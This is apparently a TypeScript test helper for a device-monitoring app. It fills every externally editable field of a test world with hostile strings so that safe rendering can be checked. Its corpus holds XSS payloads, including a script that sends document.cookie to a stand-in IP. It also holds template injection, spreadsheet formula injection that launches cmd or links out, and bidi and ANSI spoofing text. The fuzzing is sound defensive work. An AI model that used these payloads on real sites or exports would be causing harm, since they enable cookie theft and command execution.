import { hostileTexts } from '../../../test/support/hostile-texts.ts';
import type { World } from './state.ts';

/** Beside the texts that reach past a line: markup, scripts, formulas and ids without an end. */
const more = [
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(document.domain)>',
  '"><script>fetch("//198.51.100.7/"+document.cookie)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  'javascript:alert(1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://198.51.100.7/","pump")',
  '@SUM(1+1)*cmd',
  '+1-1',
  '\tlooks empty',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<style>*{display:none}</style>',
  'pump-'.padEnd(10_240, '0123456789abcdef'),
  '\u202E\u2066gnp.exe\u2069 \u001B[8m hidden \u001B[0m',
];
export const corpus: readonly string[] = [...hostileTexts, ...more].filter((text) => text.trim() !== '');

/** Puts a hostile text into every field that somebody outside can fill. */
export function spoil(world: World): void {
  const text = (index: number): string => corpus[index % corpus.length] ?? '';
  for (const [index, device] of world.devices.entries()) {
    Object.assign(device, {
      model: text(index),
      firmware: text(index + 1),
      site: text(index + 2),
      owner: text(index + 3),
    });
    Object.assign(device, { gateway: text(index + 4), productionBatch: text(index + 5) });
  }
  for (const [index, alert] of world.alerts.entries()) {
    Object.assign(alert, {
      title: text(index),
      site: text(index + 1),
      device: text(index + 2),
      gateway: text(index + 3),
    });
    Object.assign(alert, { assignee: text(index + 4), acknowledgedBy: text(index + 5), reason: text(index + 6) });
    alert.subject = { kind: 'device', id: text(index + 7) };
    alert.facts = Object.fromEntries([0, 1, 2, 3, 4].map((one) => [text(index + one), text(index + one + 9)]));
    if (alert.explanation !== null) alert.explanation.metric = text(index + 8);
  }
  for (const [index, one] of world.cases.entries())
    Object.assign(one, { title: text(index + 3).slice(0, 200), assignee: text(index + 11).slice(0, 64) });
  for (const [index, one] of world.suppressions.entries()) {
    Object.assign(one, { reason: text(index + 5).slice(0, 500), author: text(index + 14).slice(0, 64) });
    one.scope = {
      detector: text(index + 1).slice(0, 200),
      subject: { kind: 'source', id: text(index + 9).slice(0, 200) },
    };
  }
  for (const [index, quarantine] of world.quarantines.entries()) {
    Object.assign(quarantine, { device: text(index), site: text(index + 1), model: text(index + 2) });
    quarantine.requestedBy = { type: 'person', name: text(index + 3) };
  }
  for (const [index, campaign] of world.campaigns.entries()) {
    campaign.plan.scope.id = text(index);
    campaign.unreachable = campaign.unreachable.map((_, at) => text(at));
    campaign.startedBy = text(index + 2);
  }
  world.views.push({ id: 'v2', page: 'alerts', title: text(36), query: 'q=%3Cscript%3E', by: text(37), at: world.now });
}
